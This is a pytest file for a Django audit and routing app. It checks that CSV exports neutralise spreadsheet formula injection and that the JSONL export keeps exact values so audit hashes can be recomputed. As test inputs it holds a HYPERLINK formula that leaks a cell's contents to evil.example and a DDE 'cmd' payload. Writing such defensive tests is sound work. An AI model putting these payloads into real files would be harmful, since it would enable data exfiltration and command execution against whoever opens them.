"""Exports for people are guarded against formula injection; the JSON Lines export keeps every value exactly, so
each hash can be recomputed from the file alone."""
from __future__ import annotations

import csv
import hashlib
import io
import json

import pytest
from django.test import Client
from django.urls import reverse

from audit.chain import canonical_json
from audit.models import AuditEntry
from routing import actions as routing
from routing.models import RoutingOrder
from telegrams.models import Telegram
from tests.conftest import client_for
from tests.routing.test_queues_and_stalls import register

pytestmark = pytest.mark.django_db
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点此")'


def read_csv(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))


def test_a_failed_logins_username_is_no_formula_in_the_audit_csv(admin_user):
    Client().post(reverse("login"), {"username": FORMULA, "password": "wrong-password-1"})
    rows = read_csv(client_for(admin_user).get(reverse("audit:csv"), {"action": "auth.login_failed"}))
    (row,) = rows[1:]
    assert row[3] == "'" + FORMULA  # 操作人: shown, but as text
    assert not any(cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r)


def test_the_jsonl_export_keeps_exact_values_and_every_hash_recomputes(admin_user, clerk):
    Client().post(reverse("login"), {"username": FORMULA, "password": "wrong-password-1"})
    register(1, "特提", clerk)
    response = client_for(admin_user).get(reverse("audit:jsonl"))
    assert response["Content-Type"].startswith("application/x-ndjson")
    lines = [json.loads(line) for line in b"".join(response.streaming_content).decode("utf-8").splitlines()]
    assert [e["seq"] for e in lines] == sorted((e["seq"] for e in lines), reverse=True)
    assert any(e["actor"] == FORMULA for e in lines)  # unguarded: the value as hashed
    for e in lines:
        entry = {k: e[k] for k in ("seq", "at", "actor_id", "actor", "action", "object_type", "object_id", "data")}
        recomputed = hashlib.sha256(e["prev_hash"].encode() + canonical_json(entry).encode("utf-8")).hexdigest()
        assert recomputed == e["hash"] == AuditEntry.objects.get(seq=e["seq"]).hash
    assert AuditEntry.objects.filter(action="audit.export_jsonl", actor_id=admin_user.pk).exists()


def test_routing_history_csv_guards_titles_and_notes(admin_user, clerk):
    t = register(2, "平急", clerk)
    Telegram.objects.filter(pk=t.pk).update(title="=cmd|' /C calc'!A0")  # as a hostile sender titled it
    routing.route(RoutingOrder.objects.get(telegram=t).pk)
    rows = read_csv(client_for(admin_user).get(reverse("routing:history_csv")))
    titles = {r[4] for r in rows[1:]}
    assert titles == {"'=cmd|' /C calc'!A0"}
